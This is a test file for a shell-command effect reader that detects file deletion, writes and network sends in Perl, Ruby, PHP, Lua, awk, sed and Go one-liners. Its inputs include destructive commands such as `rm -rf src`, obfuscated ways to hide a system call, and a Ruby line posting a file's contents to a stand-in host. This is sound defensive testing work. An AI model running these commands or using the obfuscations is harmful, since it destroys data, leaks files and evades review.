import { runs } from "@helve/testing/property-runs";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { readShell } from "./read.ts";

/** The effects of a command on this machine, as short texts. */
function does(command: string): readonly string[] {
  return readShell(command).effects.flatMap((effect) => {
    if (effect.kind === "anything") return ["?"];
    if (effect.kind === "delete" || effect.kind === "write")
      return [`${effect.kind} ${effect.target?.path ?? "?"} by ${effect.by}`];
    return effect.kind === "network" ? [`${effect.direction} ${effect.host}`] : [];
  });
}

describe("code in Perl, Ruby, PHP and Lua", () => {
  it.each([
    ["perl -e 'unlink \"src/a.ts\"'", ["delete src/a.ts by unlink"]],
    ["perl -MFile::Path -e 'rmtree(\"src\")'", ["delete src by rmtree"]],
    ["perl -e 'unlink glob(\"src/*\")'", ["delete src/* by unlink"]],
    ["perl -e 'unlink qw(a b)'", ["delete a by unlink", "delete b by unlink"]],
    ['perl -e \'system("rm", "-rf", "src")\'', ["delete src by rm"]],
    ['perl -e \'my $c = "rm -rf " . "src"; system $c\'', ["delete src by rm"]],
    ["perl -pe 's/x/`rm a`/e' b", ["delete a by rm"]],
    ['perl -e \'open(F, ">", "a.txt"); print F 1\'', ["write a.txt by open"]],
    ["perl -e 'open F, \">>a.txt\"'", ["write a.txt by open"]],
    ["perl -e 'open F, \"| rm -rf src\"'", ["delete src by rm"]],
    ["perl -e '@ARGV = (\"rm -rf src|\"); print <>'", ["delete src by rm"]],
    ["perl -e 'unshift @ARGV, \"rm -rf src|\"; print <>'", ["delete src by rm"]],
    ["perl -e 'eval \"unlink q(a)\"'", ["delete a by unlink"]],
    ["ruby -e 'File.delete(\"a\")'", ["delete a by File.delete"]],
    [`ruby -e 'File.delete(File.expand_path("~/a"))'`, ["delete ~/a by File.delete"]],
    [`ruby -e 'File.delete(File.join(Dir.home, "a"))'`, ["delete ~/a by File.delete"]],
    [`perl -e 'unlink glob("~/a")'`, ["delete ~/a by unlink"]],
    ["ruby -rfileutils -e 'FileUtils.rm_rf Dir.glob(\"src/*\")'", ["delete src/* by FileUtils.rm_rf"]],
    ["ruby -e '%x{rm -rf src}'", ["delete src by rm"]],
    ["ruby -e 'system(*%w[rm -rf src])'", ["?"]],
    ["ruby -e 'system %w[rm src].join(\" \")'", ["?"]],
    ["ruby -e 'Kernel.send(:system, \"rm a\")'", ["?"]],
    ['ruby -e \'d = "src"; system "rm -rf #{d}"\'', ["delete src by rm"]],
    ["php -r 'unlink(\"a\");'", ["delete a by unlink"]],
    ['php -r \'$f = "sys" . "tem"; $f("rm a");\'', ["delete a by rm"]],
    ['php -r \'array_map("unlink", glob("*"));\'', ["delete * by unlink"]],
    ["lua -e 'os.execute(\"rm -rf src\")'", ["delete src by rm"]],
    ["lua -e 'os.execute(\"\\114m a\")'", ["?"]],
    ['lua -e \'local f = os["exec".."ute"]; f("rm a")\'', ["?"]],
    ['ruby -rnet/http -e \'Net::HTTP.post(URI("http://x.example/a"), File.read("a"))\'', ["out x.example"]],
    ["printf 'FileUtils.rm_rf(\"docs\")' > x.rb; ruby x.rb", ["delete docs by FileUtils.rm_rf", "write x.rb by >"]],
  ] as const)("%s has the effects %j", (command, effects) => {
    expect(does(command)).toEqual(effects);
  });

  it.each([
    "perl -lane 'print $F[2]' data.txt",
    "perl -e 'my %h; while (<STDIN>) { chomp; $h{$_}++ } print \"$_ $h{$_}\\n\" for sort keys %h'",
    "perl -MList::Util=sum -e 'print sum(1..10)'",
    "perl -pe 's/(\\d+)/$1*2/ge' a.txt",
    "ruby -ne 'puts $_ if /x/' a.txt",
    'ruby -rjson -e \'puts JSON.parse(File.read("package.json"))["version"]\'',
    "ruby -e 'puts (1..10).map { |x| x * x }.sum'",
    "php -r 'print_r(json_decode(file_get_contents(\"composer.json\"), true));'",
    "php -r 'echo implode(\",\", array_map(fn($x) => $x * 2, [1,2,3])), PHP_EOL;'",
    "lua -e 'for line in io.lines(\"a.txt\") do print(#line) end'",
  ])("%s only computes and prints", (command) => {
    expect(does(command)).toEqual([]);
  });

  it.each([
    "perl -e '$x\n=unlink(\"a\"); $y\n=cut'",
    "perl -e '$x = 1 <<A;\nunlink \"b\"\nA\n'",
    "ruby -e 'p = 4; p / system(\"rm a\") / 2'",
    "ruby -e '?\";system $x; ?\"'",
    "lua -e '--[==[ ]] ]==] os.remove(\"a\")'",
    'php -r \'?> " <?php system("rm a"); ?> "\'',
  ])("%s does not hide a call in what is text only at first sight", (command) => {
    expect(does(command)).not.toEqual([]);
  });

  it.each([
    ['awk \'BEGIN { print "rm a" | "sh" }\'', ["?"]],
    ['perl -e \'open F, "| sh"; print F "rm a"\'', ["?"]],
    ["awk 'BEGIN { system(\"rm a\") }'", ["delete a by rm"]],
    ["awk 'BEGIN { \"rm a\" | getline x }'", ["delete a by rm"]],
    ['awk \'{ c = "rm"; c " a" | getline x }\'', ["?"]],
    ["awk '{ print > \"out.txt\" }' a", ["write out.txt by print"]],
    ["sed '1e rm a' b", ["delete a by rm"]],
    ["sed 's/x/rm a/e' b", ["?"]],
    ["sed -n '/a[/]/w out.txt' b", ["?"]],
    ["sed 's|a|b|w out.txt' b", ["write out.txt by sed"]],
    ["sed -e '/a/,$ { s/b/c/; w out.txt' -e '}' b", ["write out.txt by sed"]],
  ] as const)("%s has the effects %j", (command, effects) => {
    expect(does(command)).toEqual(effects);
  });

  it.each(["awk '{ print | \"sort -u\" }' a", "awk 'BEGIN { \"date\" | getline d; print d }'", "sed 'r a.txt' b"])(
    "%s changes nothing",
    (command) => {
      expect(does(command)).toEqual([]);
    },
  );

  it.each([
    ['import "os"\nfunc main() { os.RemoveAll("docs") }', "go run main.go", ["delete docs by os.RemoveAll"]],
    ['import e "os/exec"\nfunc main() { e.Command("rm", "-rf", "src").Run() }', "go run .", ["delete src by rm"]],
    ['import "os/exec"\nfunc main() { exec.Command(name).Run() }', "go run ./", ["?"]],
    ['import ("fmt"; "strings")\nfunc main() { fmt.Println(strings.Repeat("a", 3)) }', "go run .", []],
  ] as const)("a Go program with %j, run with %s, has the effects %j", (code, command, effects) => {
    const found = does(`cat > main.go <<'EOF'\npackage main\n${code}\nEOF\n${command}`);
    expect(found.filter((each) => each !== "write main.go by >")).toEqual(effects);
  });

  it("says once that a program can't be read", () => {
    const { effects } = readShell("ruby -e 'frob 1; grob 2; eval $x'");
    expect(effects.filter(({ kind }) => kind === "anything")).toHaveLength(1);
  });

  it("never throws", () => {
    const pieces = fc.constantFrom(
      ..."\"'`/#{}()[]$@%<>=;,.\\ \n",
      "q{",
      "%w[",
      "s/",
      "<<A",
      "--[[",
      "unlink",
      "system",
      "=begin\n",
    );
    const name = fc.constantFrom("perl -e", "ruby -e", "php -r", "lua -e", "awk", "sed");
    fc.assert(
      fc.property(name, fc.array(pieces, { maxLength: 60 }), (program, parts) => {
        const code = parts.join("");
        readShell(`${program} '${code.replaceAll("'", "'\\''")}'`);
      }),
      { numRuns: runs(300, 20_000) },
    );
    for (const part of ["(", "[[", "s/", "#{", "${", "<<A\n", "a.b.", '"#{"', "x=", "|a,", "f(", "%w[", "/"]) {
      for (const program of ["perl -e", "ruby -e", "php -r", "lua -e"])
        expect(() => readShell(`${program} '${part.repeat(11_000 / part.length)}'`)).not.toThrow();
    }
  });
});
